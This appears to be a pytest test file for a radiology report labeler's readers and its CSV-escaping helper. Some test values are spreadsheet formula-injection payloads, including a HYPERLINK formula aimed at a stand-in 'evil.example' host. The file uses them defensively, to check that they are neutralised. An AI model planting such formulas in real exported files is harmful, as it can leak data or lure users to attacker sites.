"""`labeler.files`: the one reader of `cxr label` output and the readers built on it."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from labeler.attribute_scoring import read_findings
from labeler.disagreements import read_mention_rules
from labeler.errors import InputError
from labeler.files import NO_FINDING, iter_label_results, read_predictions, spreadsheet_cell

RESULT = {
    "id": "r1",
    "labels": {"Effusion": "positive"},
    "no_finding": False,
    "findings": {"Effusion": {"side": "left"}},
    "mentions": [{"label": "Effusion", "status": "positive", "rule": "plain"}],
}

READERS: dict[str, Callable[[Path], Any]] = {
    "predictions": lambda p: read_predictions(p, labels=["Effusion"]),
    "findings": read_findings,
    "mentions": read_mention_rules,
}


def _jsonl(tmp_path: Path, *lines: str) -> Path:
    path = tmp_path / "labels.jsonl"
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    return path


def test_iter_label_results_numbers_lines_and_skips_blank_ones(tmp_path: Path) -> None:
    path = _jsonl(tmp_path, json.dumps(RESULT), "", "   ", json.dumps({**RESULT, "id": 7}))
    assert [(n, obj["id"]) for n, obj in iter_label_results(path)] == [(1, "r1"), (4, 7)]


def test_every_reader_takes_its_part_of_the_same_line(tmp_path: Path) -> None:
    path = _jsonl(tmp_path, json.dumps(RESULT))
    assert read_predictions(path, labels=["Effusion", "Mass"]) == {
        "r1": {"Effusion": "positive", "Mass": "absent", NO_FINDING: "absent"}
    }
    assert read_findings(path) == {"r1": {"Effusion": {"side": "left"}}}
    assert read_mention_rules(path) == {"r1": {"Effusion": ["plain"], NO_FINDING: ["plain"]}}


@pytest.mark.parametrize("reader", list(READERS))
@pytest.mark.parametrize(
    ("line", "why"),
    [
        ('{"id": "r1", "labels": {', "line 2 is not a `cxr label` JSON object"),  # cut short
        ('["r1", "Effusion"]', "line 2 is not a `cxr label` JSON object"),  # not an object
        ('{"labels": {}}', "line 2 is not a `cxr label` JSON object"),  # no id
    ],
    ids=["truncated", "array", "no-id"],
)
def test_every_reader_names_the_line_that_is_not_a_result(
    tmp_path: Path, reader: str, line: str, why: str
) -> None:
    path = _jsonl(tmp_path, json.dumps(RESULT), line)
    with pytest.raises(InputError, match=why):
        READERS[reader](path)


@pytest.mark.parametrize("reader", list(READERS))
def test_every_reader_refuses_an_unreadable_file_with_an_input_error(
    tmp_path: Path, reader: str
) -> None:
    latin1 = tmp_path / "latin1.jsonl"
    latin1.write_bytes(
        json.dumps({**RESULT, "id": "r\u00e9"}, ensure_ascii=False).encode("latin-1") + b"\n"
    )
    for path in (tmp_path / "missing.jsonl", latin1):
        with pytest.raises(InputError, match="cannot read|does not exist"):
            READERS[reader](path)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2.dcm", "'=1+2.dcm"),
        (
            '=HYPERLINK("http://evil.example/?x","open")',
            '\'=HYPERLINK("http://evil.example/?x","open")',
        ),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("PAT1/=1.dcm", "PAT1/=1.dcm"),
        ("a-b@c", "a-b@c"),
        ("", ""),
    ],
)
def test_spreadsheet_cell_prefixes_strings_a_spreadsheet_would_evaluate(
    value: str, cell: str
) -> None:
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize("value", [-0.5, -3, 0.25, 0, True, False, None])
def test_spreadsheet_cell_keeps_numbers_booleans_and_blanks(value: Any) -> None:
    assert spreadsheet_cell(value) is value


def test_iter_reports_and_count_refuse_an_unclosed_quote_at_its_line(tmp_path: Path) -> None:
    from labeler.files import count_reports, iter_reports

    src = tmp_path / "r.csv"
    src.write_text('id,report\n1,ok\n2,"Small effusion.\n3,"No pneumothorax."\n')
    with pytest.raises(InputError, match="line 4: not valid CSV"):
        list(iter_reports(src))
    with pytest.raises(InputError, match="line 4: not valid CSV"):
        count_reports(src)
